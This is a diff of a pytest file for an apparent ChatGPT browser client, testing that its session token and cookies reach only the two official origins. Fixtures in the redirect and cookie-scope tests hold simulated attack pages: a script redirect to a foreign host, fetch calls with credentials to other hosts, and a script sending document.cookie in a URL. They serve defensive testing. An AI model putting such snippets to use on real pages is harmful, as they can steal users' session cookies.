@@ -1,4 +1,4 @@
-"""Where secrets go: to the API's own origin, along with the site between its own two names, and nowhere else."""
+"""Secrets are sent only to the API's origin, which may move between the site's two official origins."""
 
 from __future__ import annotations
 
@@ -18,8 +18,8 @@ OLD, NEW = "https://chat.openai.com", "https://chatgpt.com"
 COOKIE = "__Secure-next-auth.session-token"
 
 
-def mapped(hosts: dict[str, FakeChatGPT]) -> dict[str, Any]:
-    """Options for a browser that takes these hosts to be our servers, and finds no other."""
+def host_map_options(hosts: dict[str, FakeChatGPT]) -> dict[str, Any]:
+    """Return options for a browser that resolves these hosts to fake servers, and resolves no other host."""
     rules = [f"MAP {host} 127.0.0.1:{server.port}" for host, server in hosts.items()]
     return {
         "browser_args": [f"--host-resolver-rules={', '.join([*rules, 'EXCLUDE 127.0.0.1'])}"],
@@ -27,12 +27,12 @@ def mapped(hosts: dict[str, FakeChatGPT]) -> dict[str, Any]:
     }
 
 
-def saw_secrets(server: FakeChatGPT) -> bool:
+def received_secrets(server: FakeChatGPT) -> bool:
     return any(request.cookies or request.bearer for request in server.requests)
 
 
 @pytest.mark.parametrize(("old", "new"), [(OLD, NEW), (NEW, OLD)])
-def test_the_site_moves_between_its_own_two_names(
+def test_redirect_between_official_origins_is_followed_with_secrets(
     serve: Serve, connect: Connect, caplog: pytest.LogCaptureFixture, old: str, new: str
 ) -> None:
     before, after = (
@@ -42,7 +42,7 @@ def test_the_site_moves_between_its_own_two_names(
     after.sign_in(before.session_token)
     before.redirect_to = new
     hosts = {old.removeprefix("https://"): before, new.removeprefix("https://"): after}
-    api = connect(before, **mapped(hosts))
+    api = connect(before, **host_map_options(hosts))
     given = before.session_token
 
     assert can_send(api)
@@ -57,52 +57,60 @@ def test_the_site_moves_between_its_own_two_names(
 
     seen = len(before.requests)
     assert can_send(api)
-    assert len(before.requests) == seen, "once it is known where the site is, nobody asks at the old place"
+    assert len(before.requests) == seen, "no request is sent to the old origin"
 
 
-@pytest.mark.parametrize("move", [False, True], ids=["to a stranger at once", "by way of the new name"])
-def test_another_host_gets_no_secret(serve: Serve, connect: Connect, move: bool) -> None:
+@pytest.mark.parametrize(
+    "move", [False, True], ids=["direct redirect", "redirect through an official origin"]
+)
+def test_redirect_to_another_host_raises_origin_error_without_secrets(
+    serve: Serve, connect: Connect, move: bool
+) -> None:
     old = serve(tls=True, public_origin=OLD)
     new = serve(tls=True, public_origin=NEW, session_token=old.session_token)
-    evil = serve(tls=True, public_origin="https://chatgpt.com.evil.example", session_token=old.session_token)
-    hosts = {"chat.openai.com": old, "chatgpt.com": new, "chatgpt.com.evil.example": evil}
-    old.redirect_to = NEW if move else evil.origin
-    new.redirect_to = evil.origin
-    api = connect(old, **mapped(hosts))
+    foreign = serve(
+        tls=True, public_origin="https://chatgpt.com.foreign.example", session_token=old.session_token
+    )
+    hosts = {"chat.openai.com": old, "chatgpt.com": new, "chatgpt.com.foreign.example": foreign}
+    old.redirect_to = NEW if move else foreign.origin
+    new.redirect_to = foreign.origin
+    api = connect(old, **host_map_options(hosts))
 
     with pytest.raises(OriginError) as caught:
         api.send_message("hello")
 
-    assert caught.value.origin == evil.origin
-    assert evil.origin in str(caught.value)
-    assert len(evil.requests) >= 1
-    assert not saw_secrets(evil)
+    assert caught.value.origin == foreign.origin
+    assert foreign.origin in str(caught.value)
+    assert len(foreign.requests) >= 1
+    assert not received_secrets(foreign)
     assert posts_of(old.requests) + posts_of(new.requests) == []
 
     old.redirect_to = new.redirect_to = None
     assert can_send(api)
-    assert not saw_secrets(evil)
+    assert not received_secrets(foreign)
 
 
-def test_a_move_that_comes_later(serve: Serve, connect: Connect) -> None:
-    """The API itself answers with a redirect: nothing follows it, the token least of all."""
-    evil = serve(tls=True, public_origin="https://evil.example")
+def test_api_redirect_to_another_host_is_not_followed(serve: Serve, connect: Connect) -> None:
+    """An API endpoint responds with a redirect. The page must not send the access token to its target."""
+    foreign = serve(tls=True, public_origin="https://foreign.example")
     server = serve(tls=True, public_origin=NEW)
-    api = connect(server, **mapped({"chatgpt.com": server, "evil.example": evil}))
+    api = connect(server, **host_map_options({"chatgpt.com": server, "foreign.example": foreign}))
     assert can_send(api)
-    server.redirect_to = evil.origin
+    server.redirect_to = foreign.origin
 
     with pytest.raises(OriginError):
         api.send_message("hello")
-    assert evil.requests == []
+    assert foreign.requests == []
 
 
-def test_a_move_that_comes_later_is_followed_by_the_next_call(serve: Serve, connect: Connect) -> None:
-    """And takes no reply along that is under way."""
+def test_api_redirect_to_official_origin_is_followed_after_open_replies(
+    serve: Serve, connect: Connect
+) -> None:
+    """A reply in flight is completed at the old origin. Meanwhile, other calls raise ``OriginError``."""
     before, after, gate = serve(tls=True, public_origin=OLD), serve(tls=True, public_origin=NEW), Gate()
     after.sign_in(before.session_token)
     hosts = {"chat.openai.com": before, "chatgpt.com": after}
-    api = connect(before, **mapped(hosts), max_concurrent_messages=2)
+    api = connect(before, **host_map_options(hosts), max_concurrent_messages=2)
     before.script(Reply(pieces=["one", " two"], hold_after=1, gate=gate))
     with api.stream_message("under way") as stream:
         assert next(stream) == "one"
@@ -116,37 +124,37 @@ def test_a_move_that_comes_later_is_followed_by_the_next_call(serve: Serve, conn
     assert posts_of(after.requests)[-1].status == 200
 
 
-def test_a_document_that_goes_elsewhere_by_script(serve: Serve, connect: Connect) -> None:
-    evil = serve(tls=True, public_origin="https://evil.example")
+def test_script_navigation_to_another_host_raises_origin_error(serve: Serve, connect: Connect) -> None:
+    foreign = serve(tls=True, public_origin="https://foreign.example")
     server = serve(tls=True, public_origin=NEW)
-    script = f'<script>location = "{evil.origin}/"</script>'
+    script = f'<script>location = "{foreign.origin}/"</script>'
     server.script_path("/api/auth/session", Answer(403, script, [("cf-mitigated", "challenge")]))
-    api = connect(server, **mapped({"chatgpt.com": server, "evil.example": evil}))
+    api = connect(server, **host_map_options({"chatgpt.com": server, "foreign.example": foreign}))
 
     with pytest.raises(OriginError) as caught:
         api.send_message("hello")
-    assert caught.value.origin == evil.origin
-    assert evil.requests
-    assert not saw_secrets(evil)
+    assert caught.value.origin == foreign.origin
+    assert foreign.requests
+    assert not received_secrets(foreign)
 
 
-def test_the_cookie_is_for_the_apis_host_alone(serve: Serve, connect: Connect) -> None:
-    """Another host and a host below it are sent no cookie by the page; it is out of reach of scripts, and needs https."""
-    hosts = ("chatgpt.com", "sub.chatgpt.com", "evil.example")
-    server, sub, evil = (serve(tls=True, public_origin=f"https://{host}") for host in hosts)
+def test_session_cookie_is_sent_to_the_api_host_only(serve: Serve, connect: Connect) -> None:
+    """The page sends no cookie to another host or a subdomain, and scripts cannot read it."""
+    hosts = ("chatgpt.com", "sub.chatgpt.com", "foreign.example")
+    server, sub, foreign = (serve(tls=True, public_origin=f"https://{host}") for host in hosts)
     send = "<script>fetch('{0}/asked', {{credentials: 'include', mode: 'no-cors'}})</script>"
-    page = "".join(f'<img src="{each.origin}/pixel">' + send.format(each.origin) for each in (sub, evil))
+    page = "".join(f'<img src="{each.origin}/pixel">' + send.format(each.origin) for each in (sub, foreign))
     server.script_path(
         "/api/auth/session", Answer(200, page + "<script>fetch('/js?' + document.cookie)</script>")
     )
-    api = connect(server, **mapped(dict(zip(hosts, (server, sub, evil), strict=True))))
+    api = connect(server, **host_map_options(dict(zip(hosts, (server, sub, foreign), strict=True))))
     assert can_send(api)
 
-    for other in (sub, evil):
+    for other in (sub, foreign):
         for path in ("/pixel", "/asked"):
-            other.wait_for_request(path)
-        assert not saw_secrets(other)
-    assert server.wait_for_request("/js").query == ""
+            other.wait_for_request(path, timeout=60)
+        assert not received_secrets(other)
+    assert server.wait_for_request("/js", timeout=60).query == ""
 
 
 def token_of(length: int) -> str:
@@ -160,7 +168,9 @@ def session_cookies(request: RecordedRequest) -> dict[str, str]:
 @pytest.mark.parametrize(
     ("tls", "length"), [(False, 1_000), (True, 3_933), (False, 3_934), (True, 12_000)], ids=str
 )
-def test_tokens_of_any_length_arrive_whole(serve: Serve, connect: Connect, tls: bool, length: int) -> None:
+def test_session_token_of_any_length_is_sent_complete(
+    serve: Serve, connect: Connect, tls: bool, length: int
+) -> None:
     server = serve(tls=tls, session_token=token_of(length))
     api = connect(server, ignore_https_errors=tls)
     assert can_send(api)
@@ -176,13 +186,13 @@ def test_tokens_of_any_length_arrive_whole(serve: Serve, connect: Connect, tls: 
     assert api.session_token == token_of(length)
 
 
-def test_a_shorter_token_leaves_no_stale_part(serve: Serve, connect: Connect) -> None:
-    """From four cookies to one, to three, and back: the server joins whatever it gets."""
+def test_shorter_rotated_session_token_leaves_no_stale_cookie(serve: Serve, connect: Connect) -> None:
+    """The token is stored in four cookies, then one, then three, and so on. The server joins all cookies that it receives."""
     lengths = [100, 9_000, 3_933, 3_934, 500]
     server = serve(session_token=token_of(12_000), rotate_session_token=[token_of(n) for n in lengths])
     api = connect(server, access_token_ttl=0)
     assert api.session_token == token_of(12_000)
-    for _ in lengths:  # one more than is needed: the page's own visit rotates it, too
+    for _ in lengths:  # one more than necessary, because the page's visit rotates the token too
         assert api.get_is_authenticated()
 
     assert api.session_token == server.session_token == token_of(500)
@@ -190,14 +200,14 @@ def test_a_shorter_token_leaves_no_stale_part(serve: Serve, connect: Connect) ->
     assert session_cookies(posts_of(server.requests)[-1]) == {COOKIE.removeprefix("__Secure-"): token_of(500)}
 
 
-def test_http_is_for_loopback_alone(serve: Serve) -> None:
+def test_http_base_url_of_public_host_raises_value_error(serve: Serve) -> None:
     url = "http://chat.example"
     with pytest.raises(ValueError, match="must be https"):
         ChatGPTAPI("token", api_base_url=f"{url}/api", backend_api_base_url=f"{url}/backend-api")
 
 
-def test_a_certificate_that_nobody_vouches_for(serve: Serve, caplog: pytest.LogCaptureFixture) -> None:
-    """It is not asked for a second time, by a second browser least of all: no try would end in another way."""
+def test_untrusted_certificate_raises_without_retry(serve: Serve, caplog: pytest.LogCaptureFixture) -> None:
+    """Neither a retry nor a new browser could succeed."""
     caplog.set_level("INFO", "chatgpt_browser")
     server = serve(tls=True)
     with ChatGPTAPI(server.session_token, retries=2, **base_urls(server)) as api:
